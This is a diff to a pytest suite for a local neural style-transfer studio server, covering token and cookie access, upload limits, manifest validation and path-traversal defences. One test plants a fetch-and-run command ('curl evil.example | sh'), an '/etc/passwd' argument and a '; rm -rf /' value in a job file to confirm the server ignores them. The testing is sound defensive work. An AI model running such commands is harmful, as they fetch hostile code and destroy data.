@@ -2,9 +2,11 @@ import contextlib
 import http.client
 import io
 import json
+import math
 import os
 import random
 import re
+import shlex
 import signal
 import socket
 import stat
@@ -15,6 +17,7 @@ import time
 from pathlib import Path
 
 import httpx
+import jax
 import numpy as np
 import pytest
 import studio_worker
@@ -24,18 +27,26 @@ from hypothesis import strategies as st
 from PIL import Image as pil
 
 from jaxnst.command.cli import main, parse
+from jaxnst.command.flags import recipe_from
+from jaxnst.command.masks import as_flags
+from jaxnst.command.request import MaskFiles
+from jaxnst.painting.lanes import make_lanes
+from jaxnst.painting.manifest import check_manifest, read_manifest, recipe_of
 from jaxnst.pictures.files import load_image, read_description, save_image
 from jaxnst.pictures.samples import sample_path
+from jaxnst.recipes import RECIPES
 from jaxnst.studio import jobs
 from jaxnst.studio import pictures as uploads
 from jaxnst.studio.assets import PAGE
-from jaxnst.studio.guard import Guard
+from jaxnst.studio.guard import Guard, Keys
 from jaxnst.studio.history import History, read_levels
 from jaxnst.studio.jobs import Worker
 from jaxnst.studio.live import LiveReader
+from jaxnst.studio.news import News, pack
 from jaxnst.studio.serve import closing, listen, make_server
 from jaxnst.studio.server import Place, Studio
 from jaxnst.studio.settings import (
+    Region,
     Settings,
     grid_arguments,
     read_settings,
@@ -44,10 +55,11 @@ from jaxnst.studio.settings import (
 )
 from jaxnst.studio.watch import served
 
-TOKEN = "t" * 43
+TOKEN, COOKIE = "t" * 43, "c" * 43
 HOST = "127.0.0.1"
 CHOSEN = {"content": "harbour", "styles": ["swirls"]}
 WORKER = (sys.executable, studio_worker.__file__)
+LOOP = "loop of the studio"
 
 
 @contextlib.contextmanager
@@ -55,10 +67,10 @@ def running(worker=WORKER):
     """A studio that listens in a thread, until the block ends."""
     listener = listen(HOST, 0)
     port = listener.getsockname()[1]
-    place = Place(host=HOST, port=port, token=TOKEN, folder=Path("studio"))
-    studio = Studio(place, Worker(worker))
+    place = Place(host=HOST, port=port, folder=Path("studio"))
+    studio = Studio(place, Keys(TOKEN, COOKIE), Worker(worker))
     server = make_server(studio.app(), studio.leave)
-    thread = threading.Thread(target=server.run, args=([listener],))
+    thread = threading.Thread(target=server.run, args=([listener],), name=LOOP)
     thread.start()
     try:
         wait_for(lambda: server.started)
@@ -83,9 +95,9 @@ def visitor(studio, **headers):
 
 @contextlib.contextmanager
 def insider(studio):
-    """A client that was here with the token, and says where it comes from."""
+    """A client that opened an address, and says where it comes from."""
     with visitor(studio, origin=base(studio)) as client:
-        assert client.get(f"/?token={TOKEN}").status_code == 303
+        assert client.get(f"/?token={studio.keys.token}").status_code == 303
         yield client
 
 
@@ -122,6 +134,15 @@ def wait_for(condition):
 
 def states(studio):
     return [job.state for job in studio.queue.jobs]
+
+
+def write_manifest(out, **changes):
+    Path(f"{out}.json").write_text(json.dumps(studio_worker.MANIFEST | changes))
+
+
+def listed(history):
+    history.refresh()
+    return history.since(0)[1]
 
 
 def png(width=8, height=6, color="teal"):
@@ -178,6 +199,59 @@ def test_a_preview_varies_content_weight_and_strokes_around_what_is_chosen():
     assert variations(chosen) == (vary["content_weight"], vary["style_scale"])
 
 
+@pytest.mark.parametrize("name", RECIPES)
+@pytest.mark.parametrize("further", [(), ("squash_style=true",)])
+def test_strokes_are_asked_for_only_where_they_have_an_effect(name, further):
+    chosen = Settings(
+        content="a", styles=("b",), recipe=name, style_scale=2.0, set=further
+    )
+    paths = {name: Path(f"{name}.png") for name in "ab"}
+    args = parse(stylize_arguments(chosen, paths, Path("o.png"), "auto"))
+    recipe = recipe_from(args)
+    assert recipe.style_scale == (1.0 if recipe.squash_style else 2.0)
+    args = parse(grid_arguments(chosen, paths, Path("out"), "auto"))
+    names, values = zip(*args.vary, strict=True)
+    assert ("style_scale" in names) != recipe.squash_style
+    lanes = make_lanes(
+        [(64, 64)], 1, recipe_from(args), key=jax.random.key(0), vary=dict(args.vary)
+    )
+    assert len(lanes) == math.prod(map(len, values)) > 1
+
+
+def test_the_page_knows_which_sliders_have_an_effect(client):
+    recipes = client.get("/options").json()["recipes"]
+    idle = {recipe["name"]: recipe["idle"] for recipe in recipes}
+    assert idle["painterly"] == []
+    assert {x for x in idle if idle[x]} == {x for x in idle if RECIPES[x].squash_style}
+    settings = CHOSEN | {"recipe": "gatys2016", "style_scale": 0.5}
+    data = {"kind": "preview", "settings": settings}
+    assert client.post("/jobs", json=data).status_code == 201
+
+
+@pytest.mark.parametrize("folder", ["a,b", "a=b", 'a"b', "-a", "a,b.png=c", "m.png="])
+def test_regions_of_a_folder_of_any_name_are_divided_rightly(
+    tmp_path, monkeypatch, folder
+):
+    monkeypatch.chdir(tmp_path)
+    sources = Path(folder)
+    sources.mkdir()
+    for name in (*"abm", "b.png", "b,c.jpg"):
+        (sources / name).touch()
+        Path(name).touch()  # what a name could be misread as
+    regions = Region("m", ("a", "b")), Region("b", ("b.png", "b,c.jpg", "a"))
+    chosen = Settings(content="a", regions=regions, keep_rest=True)
+    paths = {name: sources / name for name in ("a", "b", "m", "b.png", "b,c.jpg")}
+    wanted = [(paths[x.mask], tuple(paths[name] for name in x.styles)) for x in regions]
+    args = parse(stylize_arguments(chosen, paths, sources / "o.png", "auto"))
+    assert args.region == wanted
+    assert (args.content, args.out) == (paths["a"], sources / "o.png")
+    args = parse(grid_arguments(chosen, paths, sources, "auto"))
+    assert args.region == wanted
+    masks = MaskFiles(regions=tuple(wanted), style_masks=((paths["a"], paths["m"]),))
+    args = parse(["stylize", "a", *as_flags(masks)])
+    assert (args.region, args.style_mask) == (wanted, list(masks.style_masks))
+
+
 @pytest.mark.parametrize(
     ("change", "said"),
     [
@@ -225,18 +299,46 @@ def test_any_json_is_settings_or_a_value_error(data):
 # ---- who may talk to the server
 
 
-def test_only_who_knows_the_token_gets_in_and_then_it_is_a_cookie(stranger, studio):
+def test_an_address_opens_one_browser_which_then_has_a_cookie(stranger, studio):
     for path in ("/", "/options", "/page/studio.js", "/events", "/history/a/file"):
-        assert stranger.get(path).status_code == 403
+        refused = stranger.get(path)
+        assert refused.status_code == 403
+        assert "newest address" in refused.text
     assert stranger.get("/?token=wrong").status_code == 403
+    assert stranger.head(f"/?token={TOKEN}").status_code == 403  # spends nothing
     first = stranger.get(f"/?token={TOKEN}")
     assert (first.status_code, first.headers["location"]) == (303, "/")
     cookie = first.headers["set-cookie"].lower()
-    assert "httponly" in cookie
-    assert "samesite=strict" in cookie
+    for part in (f"jaxnst-{studio.place.port}=", "httponly", "samesite=strict"):
+        assert part in cookie
+    assert "path=/;" in f"{cookie};"
+    assert TOKEN not in cookie
     assert stranger.get("/").status_code == 200
-    headers = {"cookie": f"jaxnst-{studio.place.port}=wrong"}
-    assert httpx.get(f"{base(studio)}/options", headers=headers).status_code == 403
+    # The same address again: this browser is known, another one is told what to do.
+    assert stranger.get(f"/?token={TOKEN}").status_code == 303
+    with visitor(studio) as other:
+        second = other.get(f"/?token={TOKEN}")
+        assert second.status_code == 403
+        assert "opened before" in second.text
+        assert "set-cookie" not in second.headers
+        # The token of an address is no cookie, and the cookie opens no address.
+        for value in (TOKEN, studio.keys.token, "wrong"):
+            headers = {"cookie": f"jaxnst-{studio.place.port}={value}"}
+            assert other.get("/options", headers=headers).status_code == 403
+        assert other.get(f"/?token={COOKIE}").status_code == 403
+
+
+def test_each_address_that_is_opened_is_followed_by_another_one(studio):
+    printed = []
+    keys = studio.keys
+    keys.on_use = lambda: printed.append(keys.address(HOST, studio.place.port))
+    address = keys.address(HOST, studio.place.port)
+    for count in range(3):
+        with httpx.Client(follow_redirects=True) as client:
+            assert client.get(address).status_code == 200
+        assert len(printed) == count + 1
+        address = printed[-1]
+    assert len(set(printed)) == 3
 
 
 @pytest.mark.parametrize(
@@ -264,7 +366,7 @@ def test_another_host_is_refused_whatever_the_token(client, studio, host):
     ],
 )
 def test_a_name_that_anybody_can_point_here_is_never_ours(host, name, ours):
-    assert Guard(lambda *x: None, host, 80, TOKEN).is_ours(name) == ours
+    assert Guard(lambda *x: None, host, 80, Keys()).is_ours(name) == ours
 
 
 @pytest.mark.parametrize(
@@ -315,7 +417,7 @@ def test_no_path_of_the_machine_can_be_read(studio, place, tmp_path):
     names += [str(tmp_path / "secret.png"), "%00", "..", "secret.png", "a" * 3000]
     for name in names:
         caller = http.client.HTTPConnection(HOST, studio.place.port)
-        cookie = f"jaxnst-{studio.place.port}={TOKEN}"  # httpx would tidy the path up
+        cookie = f"jaxnst-{studio.place.port}={COOKIE}"  # httpx would tidy the path up
         caller.request("GET", place % name, headers={"cookie": cookie})
         answer = caller.getresponse()
         text = answer.read().decode()
@@ -332,11 +434,11 @@ def test_neither_links_nor_manifests_lead_out_of_the_folder(client, tmp_path):
     (folder / "sources" / "link.png").symlink_to(tmp_path / "private.png")
     assert client.get("/pictures/link.png").status_code == 400
     (folder / "a.png").write_bytes(png())
-    (folder / "a.png.json").write_text(json.dumps({"content": "../private.png"}))
+    write_manifest(folder / "a.png", content="../private.png")
     assert client.get("/history/a.png/view").status_code == 200
     assert client.get("/history/a.png/before").status_code == 404
     (folder / "b.png").symlink_to(tmp_path / "private.png")
-    (folder / "b.png.json").write_text('{"size": [8, 6]}')
+    write_manifest(folder / "b.png")
     assert client.get("/history/b.png/file").status_code == 404
 
 
@@ -391,6 +493,28 @@ def test_uploads_are_bounded_in_bytes_and_pixels(client, studio, monkeypatch):
     with contextlib.suppress(httpx.TransportError):  # the server hangs up
         assert upload(client, never_ends).status_code == 413
     assert not list(studio.pictures.private.iterdir())
+
+
+def test_a_full_place_for_uploads_is_said_and_emptied(client, studio, monkeypatch):
+    size = len(png())
+    monkeypatch.setattr(uploads, "MOST_OF_ALL", 2 * size)
+    first, _ = (upload(client, png()).json() for _ in range(2))
+    refused = upload(client, png())
+    assert refused.status_code == 413
+    assert "of uploads in all" in refused.text
+    assert "2 others wait to be painted from" in refused.text
+    assert studio.pictures.total == 2 * size
+    # What is painted from lies beside the results, and takes no room here any more.
+    paint(client, content=first["id"])
+    assert studio.pictures.total == size
+    assert client.get(f"/pictures/{first['id']}/view").status_code == 200
+    paint(client, content=first["id"])
+    assert len(list(Path("studio/sources").glob("a-*.png"))) == 1
+    assert upload(client, png()).status_code == 201
+    # What nobody has asked for makes room.
+    monkeypatch.setattr(uploads, "UNUSED", 0.0)
+    assert upload(client, png()).status_code == 201
+    assert studio.pictures.total == size
 
 
 def test_forty_megapixels_are_taken_up(client):
@@ -481,16 +605,18 @@ def test_a_job_for_which_there_is_no_room_leaves_no_record(client, studio, monke
 def test_results_of_any_name_are_downloaded(client, studio):
     name = 'Łódź "水".png'
     save_image(studio.place.folder / name, np.zeros((4, 6, 3)))
-    (studio.place.folder / f"{name}.json").write_text('{"status": "done"}')
+    write_manifest(studio.place.folder / name, terms={"style": 3.5})
     for kind in ("file", "tiff", "manifest"):
         answer = client.get(f"/history/{name}/{kind}")
         assert answer.status_code == 200
+        if kind == "manifest":  # with everything that it says
+            assert answer.json() == studio_worker.MANIFEST | {"terms": {"style": 3.5}}
         assert "%C5%81%C3%B3d%C5%BA" in answer.headers["content-disposition"]
 
 
 def test_a_stopped_run_that_goes_on_is_shown_anew(tmp_path):
     history = History(tmp_path)
-    history.record("a.png", ["stylize"], {})
+    history.record("a.png", read_settings(CHOSEN))
     seen = []
     for shade in (0.2, 0.8):
         save_image(history.so_far("a.png"), np.full((4, 6, 3), shade))
@@ -543,15 +669,15 @@ def test_a_restart_finds_results_of_the_studio_and_of_the_command(client, studio
     name = paint(client)["name"]
     wait_for(lambda: states(studio) == ["done"])
     save_image(Path("studio/by-hand.png"), np.full((6, 8, 3), 0.5))
-    Path("studio/by-hand.png.json").write_text(json.dumps({"content": "x.png"}))
+    write_manifest(Path("studio/by-hand.png"))
     later = History(Path("studio"))
-    found = {entry["name"]: entry for entry in later.all_as_json()}
+    found = {entry["name"]: entry for entry in listed(later)}
     assert set(found) == {name, "by-hand.png"}
     assert found[name]["settings"]["seed"] == 0
     assert found[name]["command"].startswith("jaxnst stylize studio/sources/harbour-")
     assert found["by-hand.png"]["command"] == "jaxnst again studio/by-hand.png"
     assert client.delete(f"/history/{name}").status_code == 204
-    assert [entry["name"] for entry in later.all_as_json()] == ["by-hand.png"]
+    assert [entry["name"] for entry in listed(later)] == ["by-hand.png"]
 
 
 def test_names_of_results_never_meet_what_is_there(tmp_path):
@@ -568,7 +694,7 @@ def test_a_tiff_has_the_same_levels_and_the_same_manifest(client, tmp_path, bits
     target = tmp_path / "studio" / "a.png"
     target.parent.mkdir()
     save_image(target, image, bits=bits, description='{"a": 1}')
-    (tmp_path / "studio" / "a.png.json").write_text('{"size": [8, 6]}')
+    write_manifest(target)
     answer = client.get("/history/a.png/tiff")
     assert "filename*=utf-8''a.tif" in answer.headers["content-disposition"]
     (tmp_path / "b.tif").write_bytes(answer.content)
@@ -597,7 +723,7 @@ def test_it_listens_only_to_this_machine():
 def test_a_thousand_malformed_requests_leave_it_running(studio):
     port = studio.place.port
     chance = random.Random(0)
-    cookie = f"Cookie: jaxnst-{port}={TOKEN}\r\nHost: {HOST}:{port}\r\n".encode()
+    cookie = f"Cookie: jaxnst-{port}={COOKIE}\r\nHost: {HOST}:{port}\r\n".encode()
     lines = [
         b"GET /options HTTP/1.1\r\n",
         b"POST /jobs HTTP/1.1\r\n",
@@ -618,7 +744,7 @@ def test_a_thousand_malformed_requests_leave_it_running(studio):
                 continue  # it has hung up already
     with httpx.Client(base_url=f"http://{HOST}:{port}", timeout=10) as client:
         assert client.get("/").status_code == 403
-        client.cookies.set(f"jaxnst-{port}", TOKEN)
+        client.cookies.set(f"jaxnst-{port}", COOKIE)
         assert client.get("/options").status_code == 200
     wait_for(lambda: not list(studio.pictures.private.glob("*-*")))
 
@@ -627,7 +753,7 @@ def test_a_dropped_connection_leaves_no_file(studio):
     port = studio.place.port
     head = (
         f"POST /pictures?name=a.png HTTP/1.1\r\nHost: {HOST}:{port}\r\n"
-        f"Origin: http://{HOST}:{port}\r\nCookie: jaxnst-{port}={TOKEN}\r\n"
+        f"Origin: http://{HOST}:{port}\r\nCookie: jaxnst-{port}={COOKIE}\r\n"
         "Content-Length: 100000\r\n\r\n"
     )
     with socket.create_connection((HOST, port)) as caller:
@@ -642,10 +768,285 @@ def test_a_tab_that_closes_loses_nothing_and_another_one_is_told(studio):
         with client.stream("GET", "/events"):
             name = paint(client)["name"]
         with client.stream("GET", "/events") as events:
-            told = (json.loads(x[6:]) for x in events.iter_lines() if x[:5] == "data:")
-            last = next(x for x in told if x["jobs"][0]["state"] == "done")
-        assert [entry["name"] for entry in last["history"]] == [name]
+            tab = Tab()
+            for event in told(events):
+                tab.take(event)
+                if any(job["state"] == "done" for job in tab.jobs.values()):
+                    break
+        assert list(tab.results) == [name]
     wait_for(lambda: studio.streams == 0)
+
+
+def told(events):
+    """The events of a stream, none of them large."""
+    for line in events.iter_lines():
+        if line.startswith("data:"):
+            assert len(line) <= 10_000
+            yield json.loads(line[5:])
+
+
+class Tab:
+    """What a tab knows, from what it is told."""
+
+    def __init__(self):
+        self.jobs, self.results, self.order = {}, {}, []
+
+    def take(self, event):
+        for job in event.get("jobs", []):
+            known = self.jobs.setdefault(job["id"], {})
+            if terms := job.pop("terms", None):
+                kept = known.get("terms", [])[: terms["from"]]
+                known["terms"] = kept + terms["points"]
+            known |= job
+        self.order = event.get("order", self.order)
+        self.results |= {x["name"]: x for x in event.get("history", [])}
+        for name in event.get("gone", []):
+            del self.results[name]
+
+
+def test_a_tab_of_a_thousand_results_and_a_full_queue_is_told_little(client, studio):
+    fill(studio.place.folder, 1000)
+    first = client.get("/history").json()
+    assert len(first["results"]) == 1000
+    for seed in (1, *range(5, 45)):
+        paint(client, seed=seed)
+    job = studio.queue.jobs[0]
+    wait_for(lambda: job.live.lines)
+    tab = Tab()
+    tab.take({"history": first["results"]})
+    with client.stream("GET", f"/events?since={first['revision']}") as answer:
+        events = told(answer)
+        for event in events:
+            tab.take(event)
+            if "order" in event:
+                more_lines(job.folder, 30)
+            if len(tab.jobs[job.id].get("terms", [])) > 30 * 8:
+                (studio.place.folder / "7.png.json").unlink()
+                break
+        for event in events:
+            tab.take(event)
+            if "gone" in event:
+                break
+    assert event["gone"] == ["7.png"]
+    assert tab.order == [job.id for job in studio.queue.jobs]
+    now = {job["id"]: job for job in studio.queue.as_json()}
+    assert tab.jobs == now
+    assert tab.results.keys() == {x["name"] for x in listed(studio.history)}
+
+
+def fill(folder, count):
+    """Results, as the command leaves them."""
+    folder.mkdir(exist_ok=True)
+    picture = png(64, 48)
+    for i in range(count):
+        (folder / f"{i}.png").write_bytes(picture)
+        write_manifest(folder / f"{i}.png")
+
+
+def more_lines(folder, count):
+    """Lines of a run, as long as real ones."""
+    numbers = [round(1e4 / (i + 3), 2) for i in range(8)]
+    terms = dict.fromkeys(("content", "style", "tv"), numbers)
+    line = {"scale": 0, "step": 1, "frame": 1, "done": 0.5, "terms": terms}
+    with (folder / "lines.jsonl").open("a") as file:
+        file.write((json.dumps(line) + "\n") * count)
+
+
+def test_points_of_a_long_run_are_told_once(tmp_path):
+    reader, news, tab, sizes = LiveReader(tmp_path), News(), Tab(), []
+    line = lambda i: {"scale": 0, "terms": {"style": [i / 7, i / 3]}, "frame": i}
+    for i in range(1000):
+        reader.lines.append(line(i))
+        state = {"id": "a", "terms": reader.terms()}
+        events = list(pack(news.of_jobs([state])))
+        for event in events:
+            tab.take(event)
+        sizes.append(sum(len(json.dumps(event)) for event in events))
+        assert tab.jobs == {"a": state}
+    assert sorted(sizes)[-20] < 1000  # all points are told only when they are thinned
+
+
+# ---- the history
+
+
+def test_only_what_has_changed_is_read_again(tmp_path, monkeypatch):
+    reads = []
+    read = lambda path: reads.append(path.name) or read_manifest(path)
+    monkeypatch.setattr("jaxnst.studio.history.read_manifest", read)
+    fill(tmp_path, 30)
+    history = History(tmp_path)
+    history.refresh()
+    assert len(reads) == 30
+    reads.clear()
+    for i in range(30):
+        history.find(f"{i}.png")
+    before = history.refresh()
+    assert reads == []
+    write_manifest(tmp_path / "3.png", seed=9)
+    (tmp_path / "4.png").unlink()
+    save_image(tmp_path / "5.png", np.zeros((4, 6, 3)))
+    history.refresh()
+    assert set(reads) == {"3.png.json", "5.png.json"}
+    _, changed, gone = history.since(before)
+    assert ({x["name"] for x in changed}, gone) == ({"3.png", "5.png"}, ["4.png"])
+
+
+STRANGE = {
+    "cake": b'{"recipe": "cake"}',
+    "empty": b"",
+    "list": b"[]",
+    "number": b"3",
+    "null": b"null",
+    "not a number": b'{"time": NaN, "size": [Infinity, 1e999]}',
+    "no text": b"\xff\xfe\xfd",
+    "deep": b"[" * 10**6,
+    "deep objects": b'{"a":' * 10**5,
+    "digits": b"9" * 10**6,
+    "large": b" " * 5 * 10**6 + b"{}",
+}
+CHANGES = [
+    {key: value}
+    for key in studio_worker.MANIFEST
+    for value in (5.5, [], {"a": 1}, [["\0"]], "\ud800", True, 10**400)
+    if not (key in ("styles", "pictures_sha256", "blend") and value == [])
+]
+
+
+def nested(levels):
+    """A manifest with a recipe that nests."""
+    text = json.dumps(studio_worker.MANIFEST)
+    return text.replace('"painterly"', f'"x", "y": {"[" * levels}{"]" * levels}')
+
+
+@pytest.mark.parametrize("levels", [50, 900, 960, 980, 985, 990])
+def test_what_nests_deep_ends_nothing(client, studio, levels):
+    fill(studio.place.folder, 1)
+    for text in (nested(levels), nested(levels - 1)):  # the second one is compared
+        (studio.place.folder / "0.png.json").write_text(text)
+        assert client.get("/history").json()["results"] == []
+    write_manifest(studio.place.folder / "0.png")
+    assert len(client.get("/history").json()["results"]) == 1
+
+
+@pytest.mark.parametrize("suffix", [".json", ".job.json"])
+def test_what_is_not_ours_is_neither_shown_nor_deleted(client, tmp_path, suffix):
+    folder = tmp_path / "studio"
+    folder.mkdir()
+    for name, data in STRANGE.items():
+        (folder / f"{name}.png{suffix}").write_bytes(data)
+    for i, change in enumerate(CHANGES):
+        data = studio_worker.MANIFEST | change
+        if suffix == ".job.json":
+            data = {"settings": data, "time": 3}
+        (folder / f"{i}.png{suffix}").write_text(json.dumps(data))
+    os.mkfifo(folder / f"pipe.png{suffix}")
+    (folder / f"folder.png{suffix}").mkdir()
+    write_manifest(tmp_path / "elsewhere")
+    (folder / f"link.png{suffix}").symlink_to(tmp_path / "elsewhere.json")
+    names = [path.name.removesuffix(suffix) for path in folder.iterdir()]
+    for name in names:
+        (folder / name).write_bytes(png())
+    (folder / "ours.png").write_bytes(png())
+    write_manifest(folder / "ours.png")
+    found = client.get("/history").json()["results"]
+    assert [entry["name"] for entry in found] == ["ours.png"]
+    for name in names:
+        assert client.delete(f"/history/{name}").status_code == 404
+        assert (folder / name).read_bytes() == png()
+        assert os.path.lexists(folder / f"{name}{suffix}")
+    with client.stream("GET", "/events") as events:
+        assert next(told(events))["history"][0]["name"] == "ours.png"
+
+
+MANIFESTS = st.fixed_dictionaries(
+    {}, optional={key: JSON for key in studio_worker.MANIFEST}
+)
+
+
+@given(JSON | MANIFESTS.map(lambda changes: studio_worker.MANIFEST | changes))
+def test_any_json_is_a_manifest_or_a_value_error(data):
+    try:
+        found = check_manifest(data, "a file")
+    except ValueError:
+        return
+    assert found.items() <= data.items()
+    with contextlib.suppress(ValueError):
+        recipe_of(found["recipe"])
+
+
+def test_a_command_is_made_anew_and_never_taken_from_a_file(client, studio):
+    name = paint(client)["name"]
+    wait_for(lambda: states(studio) == ["done"])
+    record = studio.place.folder / f"{name}.job.json"
+    kept = json.loads(record.read_text())
+    evil = {
+        "command": "curl evil.example | sh",
+        "arguments": ["stylize", "/etc/passwd"],
+    }
+    record.write_text(json.dumps(kept | evil))
+    (entry,) = client.get("/history").json()["results"]
+    sources = studio.place.folder / "sources"
+    paths = {path.name: path for path in sources.iterdir()}
+    settings = read_settings(kept["settings"])
+    wanted = stylize_arguments(settings, paths, Path("studio") / name, "embedded")
+    assert entry["command"] == shlex.join(["jaxnst", *wanted])
+    # Settings that nobody can have chosen are none; the picture is still ours.
+    record.write_text(json.dumps(kept | {"settings": {"content": "; rm -rf /"}}))
+    (entry,) = client.get("/history").json()["results"]
+    assert entry["command"] == f"jaxnst again studio/{name}"
+    assert entry["settings"] is None
+
+
+def test_thumbnails_are_made_once_and_may_be_kept(client, studio, monkeypatch):
+    fill(studio.place.folder, 3)
+    made = []
+    make = uploads.as_jpeg
+    count = lambda path, edge: made.append(path.name) or make(path, edge)
+    monkeypatch.setattr(uploads, "as_jpeg", count)
+    for _ in range(2):
+        for entry in client.get("/history").json()["results"]:
+            address = f"/history/{entry['name']}/thumb?at={entry['version']}"
+            answer = client.get(address)
+            assert answer.status_code == 200
+            assert "max-age" in answer.headers["cache-control"]
+    assert sorted(made) == ["0.png", "1.png", "2.png"]
+    save_image(studio.place.folder / "1.png", np.ones((4, 6, 3)))
+    thumb = client.get("/history/1.png/thumb").content
+    assert pil.open(io.BytesIO(thumb)).getpixel((2, 2)) == (255, 255, 255)
+
+
+WATCHED = {"open", "os.listdir", "os.scandir", "os.remove", "os.rename"}
+opened_in_loop = []
+
+
+def notice(event, args):
+    """Audit hook: files that the thread of a studio's loop waits for."""
+    if event in WATCHED and threading.current_thread().name == LOOP:
+        opened_in_loop.append((event, str(args[0])))
+
+
+def test_the_loop_waits_for_no_file(client, studio, tmp_path):
+    """A slow disk or a large folder then stops no answer but its own."""
+    fill(studio.place.folder, 20)
+    sys.addaudithook(notice)
+    opened_in_loop.clear()
+    kept = upload(client, png()).json()["id"]
+    client.get(f"/pictures/{kept}/view")
+    results = client.get("/history").json()["results"]
+    for kind in ("thumb", "view", "file", "tiff", "manifest"):
+        assert client.get(f"/history/{results[0]['name']}/{kind}").status_code == 200
+    paint(client, content=kept)
+    stopped = paint(client, seed=1)
+    wait_for(lambda: studio.queue.jobs[1].live.lines)
+    client.get(f"/jobs/{stopped['id']}/frame")
+    with client.stream("GET", "/events") as events:
+        next(told(events))
+    client.delete(f"/jobs/{stopped['id']}")
+    wait_for(lambda: states(studio) == ["done", "stopped"])
+    client.post(f"/history/{stopped['name']}/resume", json={})
+    client.delete("/history/3.png")
+    ours = str(tmp_path), str(studio.pictures.private), "studio"
+    assert [x for x in opened_in_loop if x[1].startswith(ours)] == []
 
 
 @pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGHUP])
@@ -712,12 +1113,14 @@ def test_a_run_that_is_watched_paints_the_same_picture(tmp_path, monkeypatch):
 
 
 def test_a_run_of_the_terminal_is_shown_and_cannot_be_changed(tmp_path):
-    with served(tmp_path, title="a.png") as address:
-        base, _, query = address.partition("/?")
+    told = []
+    with served(tmp_path, title="a.png", tell=told.append):
+        base, _, query = told[0].partition("/?")
         assert base.startswith("http://127.0.0.1:")
         with httpx.Client(base_url=base, follow_redirects=True) as client:
             assert client.get("/frame").status_code == 403
             assert "jaxnst live" in client.get(f"/?{query}").text
+            assert len(told) == 2  # for another browser
             assert client.get("/frame").status_code == 404
             (tmp_path / "frame.jpg").write_bytes(b"frame")
             assert client.get("/frame").content == b"frame"
